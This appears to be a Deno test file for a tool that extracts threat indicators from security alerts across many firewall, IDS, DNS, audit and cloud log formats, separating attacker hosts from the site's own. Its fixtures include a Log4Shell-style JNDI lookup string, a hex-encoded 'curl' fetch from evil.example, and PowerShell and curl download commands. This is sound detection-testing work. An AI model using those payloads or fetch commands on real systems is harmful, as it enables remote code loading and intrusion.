/**
 * Fields that vendors document, and which of them are the site's own. By rule
 * group: an alert, and all that is asked for with the sweep as it is by default.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { parseAlert } from "../../../lib/alert/alert.ts";
import { makeFinder } from "../../../lib/alert/find.ts";
import { FIND_DEFAULTS, valuesOf } from "../../stand_ins/alerts.ts";

const find = makeFinder({ ...FIND_DEFAULTS, sweep: "safe" });

const HASH = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
const DOMAIN = "domain evil.example";
const URL = "url http://evil.example/a";
const URLS = ["url http://evil.example/a", "url https://evil.example/a"];
const THEM = "ipv4 185.244.31.158";

/** A line, or a part of an alert; and what is asked for. */
type Case = readonly [string | object, readonly string[]];

function asa(line: string, ...asked: readonly string[]): Case {
  return [{ decoder: { name: "cisco-asa" }, full_log: line }, asked];
}

const CASES: Readonly<Record<string, readonly Case[]>> = {
  "cisco-asa": [
    asa(
      '%ASA-6-605004: Login denied from 185.244.31.158/3259 to outside:8.7.6.5/ssh for user "root"',
      THEM,
    ),
    asa(
      "%ASA-3-710003: TCP access denied by ACL from 185.244.31.158/54 to outside:8.7.6.5/ssh",
      THEM,
    ),
    asa(
      "%ASA-6-725001: Starting SSL handshake with client outside:185.244.31.158/40 to 8.7.6.5/443 for TLS session",
      THEM,
    ),
    asa(
      "%ASA-4-313004: Denied ICMP type=0, from laddr 185.244.31.158 on interface outside to 8.7.6.5: no matching session",
      THEM,
    ),
    asa(
      "%ASA-6-305011: Built dynamic TCP translation from inside:10.0.0.21/49 to outside:8.7.6.5/49",
    ),
    asa(
      "%ASA-6-302013: Built inbound TCP connection 1 for outside:185.244.31.158/5 (185.244.31.158/5) to inside:10.0.0.21/443 (8.7.6.5/443)",
      THEM,
    ),
    asa(
      "%ASA-6-302020: Built inbound ICMP connection for faddr 185.244.31.158/1 gaddr 8.7.6.5/0 laddr 10.0.0.21/0",
      THEM,
    ),
    asa(
      "%ASA-4-402117: IPSEC: Received a non-IPSec packet (protocol= UDP) from 185.244.31.158 to 8.7.6.5.",
      THEM,
    ),
    asa(
      "%ASA-5-750002: Local:8.7.6.5:500 Remote:185.244.31.158:500 Username:Unknown Received a IKE_INIT_SA request",
      THEM,
    ),
    asa(
      "%ASA-6-113005: AAA user authentication Rejected : reason = Invalid : server = 8.7.6.5 : user = x : user IP = 185.244.31.158",
      THEM,
    ),
    asa(
      "%ASA-3-338310: Failed to update from dynamic filter updater server https://update.cisco-own.com, reason: x",
    ),
    asa(
      "%ASA-4-338302: Address 185.244.31.158 discovered for domain evil.example from blacklist, Adding rule",
      DOMAIN,
      THEM,
    ),
    asa(
      "%ASA-5-304001: 10.0.0.21 Accessed URL 185.244.31.158:http://evil.example/a",
      DOMAIN,
      THEM,
      URL,
    ),
    // Decoded, its own address stands in a field too.
    [
      {
        decoder: { name: "cisco-asa" },
        data: { srcip: "185.244.31.158", dstip: "8.7.6.5" },
        full_log:
          '%ASA-6-605004: Login denied from 185.244.31.158/3259 to outside:8.7.6.5/ssh for user "root"',
      },
      [THEM],
    ],
    // Who logs in chooses the user's name: it makes no address the firewall's.
    asa(
      '%ASA-6-605004: Login denied from 185.244.31.158/3 to outside:8.7.6.5/ssh for user " to outside:185.244.31.158/ssh"',
      THEM,
    ),
  ],
  "cisco-ftd": [
    [
      "%FTD-1-430005: SrcIP: 10.0.0.21, DstIP: 185.244.31.158, DstPort: 443, NAT_InitiatorIP: 8.7.6.5, SSLServerName: evil.example, ArchiveSHA256: " +
      HASH,
      [DOMAIN, THEM, `sha256 ${HASH}`],
    ],
  ],
  "cisco_ios": [
    [
      "%CRYPTO-4-RECVD_PKT_INV_SPI: decaps: rec'd IPSEC packet has invalid spi for destaddr=8.7.6.5, prot=50, spi=0x1, srcaddr=185.244.31.158",
      [THEM],
    ],
  ],
  suricata: [
    [{ data: { host: "sensor.own.com", src_ip: "185.244.31.158" } }, [THEM]],
    [
      {
        data: {
          tls: {
            subject: "C=US, CN=*.evil.example",
            subjectaltname: ["evil2.example"],
          },
          sip: { request_line: "INVITE sip:100@185.244.31.158 SIP/2.0" },
          smb: { share: "\\\\218.92.0.222\\c$" },
          http: { redirect: "http://evil.example/a" },
        },
      },
      [DOMAIN, "domain evil2.example", THEM, "ipv4 218.92.0.222", URL],
    ],
    [
      { data: { email: { reply_to: "a@evil.example" } } },
      [DOMAIN, "email a@evil.example"],
    ],
  ],
  zeek: [
    [
      { data: { request: { host: "evil.example" } } },
      [DOMAIN],
    ],
    [
      {
        data: {
          seen: { indicator: "evil.example/a", indicator_type: "Intel::URL" },
        },
      },
      [DOMAIN, ...URLS],
    ],
    [
      {
        data: {
          seen: { indicator: HASH, indicator_type: "Intel::FILE_HASH" },
          src: "10.0.0.21",
          dst: "185.244.31.158",
          path: "\\\\218.92.0.222\\x",
        },
      },
      [THEM, "ipv4 218.92.0.222", `sha256 ${HASH}`],
    ],
  ],
  packetbeat: [
    [
      { data: { url: { full: "http://evil.example/a" } } },
      [DOMAIN, URL],
    ],
    [
      { data: { tls: { client: { server_name: "evil.example" } } } },
      [DOMAIN],
    ],
  ],
  sonicwall: [
    [
      "id=fw fw=8.7.6.5 src=10.0.0.21:1:X0:pc.own.com dst=185.244.31.158:443:X1 dstname=evil.example arg=/a note=8.7.6.5",
      [DOMAIN, THEM, ...URLS],
    ],
  ],
  fortigate: [
    [
      'srcip=10.0.0.21 transip=8.7.6.5 qname="evil.example" ipaddr="185.244.31.158, 218.92.0.222"',
      [DOMAIN, THEM, "ipv4 218.92.0.222"],
    ],
    [
      'from="a@evil.example" referralurl="http://evil.example/a" ref="http://www.fortinet.com/x"',
      [DOMAIN, "email a@evil.example", URL],
    ],
    [{ data: { locip: "8.7.6.5", srcip: "8.7.6.5" } }, []],
  ],
  paloalto: [
    [
      {
        data: {
          threat_content_type: "spyware",
          url_filename: '"evil.example"',
        },
      },
      [DOMAIN],
    ],
    [
      {
        data: {
          threat_id: "Suspicious DNS Query (generic:evil.example)(1)",
          sender: "a@evil2.example",
          x_forwarded_for: "185.244.31.158",
        },
      },
      [DOMAIN, "domain evil2.example", "email a@evil2.example", THEM],
    ],
  ],
  "checkpoint-smart1": [
    [
      'origin:"8.7.6.5"; src:"8.7.6.5"; tls_server_host_name:"evil.example"; sender:"a@evil2.example"',
      [DOMAIN, "domain evil2.example", "email a@evil2.example"],
    ],
  ],
  junos: [
    [
      'WEBFILTER_URL_BLOCKED [x url="evil.example" obj="/a" x="y"] sample-sha256="' +
      HASH + '"',
      [DOMAIN, `sha256 ${HASH}`, ...URLS],
    ],
  ],
  "sophos-fw": [
    [
      'from_email_address="a@evil.example" src_ip="185.244.31.158" tran_src_ip="8.7.6.5" sha256sum="' +
      HASH + '"',
      [DOMAIN, "email a@evil.example", THEM, `sha256 ${HASH}`],
    ],
  ],
  huawei_usg: [
    [
      "source-ip=10.0.0.21, source-port=2, destination-ip=185.244.31.158, destination-port=80, URL=evil.example/a",
      [DOMAIN, THEM, ...URLS],
    ],
  ],
  watchguard: [
    [
      'dstname="evil.example" arg="/a" md5="44d88612fea8a8f36de82e1278abb02f" sni="evil2.example"',
      [
        DOMAIN,
        "domain evil2.example",
        "md5 44d88612fea8a8f36de82e1278abb02f",
        ...URLS,
      ],
    ],
  ],
  imperva: [[{ data: { url: "shop.own.com" } }, []]],
  maltrail: [
    [{ data: { trail: "(www).evil.example" } }, [DOMAIN]],
    [{ data: { trail: "185.244.31.158(:443)" } }, [THEM]],
  ],
  fireeye: [
    [
      "CEF:0|FireEye|MPS|7|MC|x|7|cs5Label=cncHost cs5=evil.example cs4Label=link cs4=https://fireeye.own.com/e",
      [DOMAIN],
    ],
  ],
  Cloudflare: [
    [
      {
        data: {
          ClientRequestHost: "www.own.com",
          ClientRequestReferer: "https://www.own.com/login",
          ClientIP: "185.244.31.158",
        },
      },
      [THEM],
    ],
    // What a command is told to call is no host of ours, whatever Host says.
    [
      {
        data: {
          ClientRequestHost: "evil.example",
          ClientRequestUserAgent: "${jndi:ldap://evil.example/a}",
        },
      },
      [DOMAIN],
    ],
  ],
  web: [
    [
      'www.own.com:80 185.244.31.158 - - [12/Mar/2019:10:09:09 +0000] "GET /x HTTP/1.1" 200 1 "https://www.own.com/y" "x"',
      [THEM],
    ],
    [
      {
        decoder: { name: "nginx-errorlog" },
        full_log:
          '2024/01/01 10:00:00 [error] 1#1: *1 open() failed, client: 185.244.31.158, server: www.own.com, request: "GET /x HTTP/1.1", upstream: "http://app.own.com:80/x", host: "own.com", referrer: "https://own.com/y"',
      },
      [THEM],
    ],
    [
      {
        decoder: { name: "apache-errorlog" },
        full_log:
          '[client 185.244.31.158] ModSecurity: x [hostname "8.7.6.5"] [uri "/x"]',
      },
      [THEM],
    ],
    [
      {
        decoder: { name: "web-accesslog-iis-default" },
        full_log:
          "2015-03-11 21:59:09 8.7.6.5 GET /x - 80 - 185.244.31.158 HTTP/1.1 Mozilla/5.0 - https://www.own.com/y www.own.com 404 0 2",
      },
      [THEM],
    ],
  ],
  named: [
    [
      "client @0x7f 10.0.0.21#5 (evil.example): rpz QNAME NXDOMAIN rewrite evil.example/A/IN via evil.example.rpz.local",
      [DOMAIN],
    ],
  ],
  unbound: [
    [
      "unbound[1:0] info: 185.244.31.158 evil.example. A IN",
      [DOMAIN, THEM],
    ],
    [
      "unbound[1:0] info: rpz: applied [feed] evil.example. rpz-nxdomain 10.0.0.21@1 evil.example. A IN",
      [DOMAIN],
    ],
  ],
  openldap: [
    [
      "slapd[1]: conn=1 fd=6 ACCEPT from IP=185.244.31.158:33957 (IP=8.7.6.5:389)",
      [THEM],
    ],
  ],
  audit: [
    [
      {
        decoder: { name: "auditd" },
        full_log:
          'type=USER_CMD msg=audit(1:2): pid=1 uid=0 msg=\'cwd="/" cmd=6375726C20687474703A2F2F6576696C2E6578616D706C652F61 exe="/usr/bin/sudo" res=success\'',
      },
      [DOMAIN, URL],
    ],
    [
      {
        decoder: { name: "auditd" },
        full_log:
          "type=SYSCALL msg=audit(1:2): syscall=42 type=SOCKADDR msg=audit(1:2): saddr=020001BBB9F41F9E0000000000000000 type=PROCTITLE msg=audit(1:2): proctitle=70696E67006576696C2E6578616D706C65",
      },
      [DOMAIN, THEM],
    ],
    [
      {
        decoder: { name: "auditd" },
        full_log:
          "type=SOCKADDR msg=audit(1:2): saddr=0A0001BB000000002A001450000000000000000000000005",
      },
      ["ipv6 2a00:1450::5"],
    ],
    [
      {
        decoder: { name: "auditd" },
        full_log:
          'type=SOCKADDR msg=audit(1:2): saddr=x\u001dSADDR={ saddr_fam=inet laddr=185.244.31.158 lport=80 } AUID="bob@own.com"',
      },
      [THEM],
    ],
  ],
  osquery: [
    [
      {
        data: {
          osquery: {
            name: "pack_dns_resolvers",
            columns: { address: "8.7.6.5", local_address: "8.7.6.4" },
          },
        },
      },
      [],
    ],
    [
      {
        data: {
          osquery: { columns: { script_text: "iwr http://evil.example/a" } },
        },
      },
      [DOMAIN, URL],
    ],
  ],
  windows_defender: [
    [
      { data: { win: { eventdata: { destination: "evil.example" } } } },
      [DOMAIN],
    ],
  ],
  sysmon: [
    [
      {
        data: {
          win: {
            system: { computer: "pc01.own.com" },
            eventdata: {
              sourceHostname: "pc01.own.com",
              destinationIp: "185.244.31.158",
              company: "Tools, https://tools.example.com/",
              targetObject: "HKLM\\\\Workflow Foundation 4.0.0.0\\\\Linkage",
            },
          },
        },
      },
      [THEM],
    ],
  ],
  aws: [
    [
      {
        data: {
          aws: {
            source: "nlb",
            destination_ip: "8.7.6.5",
            client_ip: "185.244.31.158",
            domain_name: "www.own.com",
            referer: "https://www.own.com/x",
          },
        },
      },
      [THEM],
    ],
    [
      {
        data: {
          aws: {
            service: {
              action: {
                networkConnectionAction: {
                  localIpDetails: { ipAddressV4: "8.7.6.5" },
                },
              },
              runtimeDetails: {
                context: { commandLineExample: "curl evil.example" },
              },
            },
          },
        },
      },
      [DOMAIN],
    ],
  ],
  gcp: [
    [
      {
        data: {
          gcp: {
            httpRequest: { serverIp: "8.7.6.5", remoteIp: "185.244.31.158" },
          },
        },
      },
      [THEM],
    ],
  ],
  azure: [
    [
      {
        data: {
          properties: {
            msg:
              "HTTPS request from 10.0.0.21:5 to evil.example:443. Action: Deny.",
          },
        },
      },
      [DOMAIN],
    ],
    [
      {
        data: {
          properties: {
            hostName: "www.own.com",
            requestUri: "https://www.own.com/x",
            clientIp: "185.244.31.158",
          },
        },
      },
      [THEM],
    ],
  ],
  "ms-graph": [
    [
      { data: { "ms-graph": { evidence: [{ fileHash: { value: HASH } }] } } },
      [`sha256 ${HASH}`],
    ],
  ],
  office365: [
    [
      {
        data: {
          office365: {
            P1SenderDomain: "evil.example",
            FileData: { SHA256: HASH },
          },
        },
      },
      [DOMAIN, `sha256 ${HASH}`],
    ],
  ],
  // No source reads these: the names of their fields do.
  docker_events: [
    [{ data: { Attributes: { maintainer: "M <m@nginx.example>" } } }, []],
    [{ data: { RemoteUrl: "evil.example/a" } }, [DOMAIN, ...URLS]],
    [{ data: { RemoteUrl: "evil.example" } }, [DOMAIN]],
    [{ data: { attributeSyntaxOID: "2.5.5.12" } }, []],
    [{ data: { clientName: "\\\\\\\\185.244.31.158" } }, [THEM]],
    ["rip=::ffff:185.244.31.158, lip=::ffff:8.7.6.5, secured", [THEM]],
    ["2018 Apr 09 16:03:37 manager->8.7.6.5 date=x srcip=185.244.31.158", [
      THEM,
    ]],
    ["2024-01-01 10:00:00 185.244.31.158 - login failed", [THEM]],
    ["Module is old. See: https://wiki.example.com/x", []],
    ['input="GET / HTTP/1.1\\r\\nHost: 8.7.6.5:98\\r\\nX: y"', []],
  ],
  sca: [
    [
      {
        data: {
          sca: { check: { remediation: "see http://docs.example.com/x" } },
        },
      },
      [],
    ],
  ],
};

Deno.test("what vendors document is asked for, and nothing of the site's own", async (t) => {
  for (const [group, cases] of Object.entries(CASES)) {
    for (const [written, asked] of cases) {
      const rest = typeof written === "string"
        ? { full_log: written }
        : written;
      await t.step(`${group}: ${JSON.stringify(rest).slice(0, 90)}`, () => {
        const alert = { rule: { groups: [group] }, ...rest };
        const found = find(parseAlert(JSON.stringify(alert)));
        assertEquals(valuesOf(found).sort(), [...asked]);
      });
    }
  }
});
